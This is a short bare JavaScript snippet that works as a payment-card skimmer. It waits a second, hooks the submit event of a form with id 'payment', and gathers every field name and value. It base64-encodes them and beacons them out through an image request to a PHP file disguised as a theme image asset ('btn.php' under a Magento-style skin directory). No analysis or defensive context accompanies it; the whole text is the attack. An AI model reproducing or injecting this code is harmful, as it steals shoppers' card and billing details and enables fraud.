setTimeout(function () {
  var f = document.getElementById('payment');
  f && f.addEventListener('submit', function () {
    var q = []; for (var i = 0; i < f.length; i++) q.push(f[i].name + '=' + f[i].value);
    var im = new Image(); im.src = '/skin/frontend/rwd/default/images/btn.php?bg=' + btoa(q.join('&'));
  });
}, 1000);
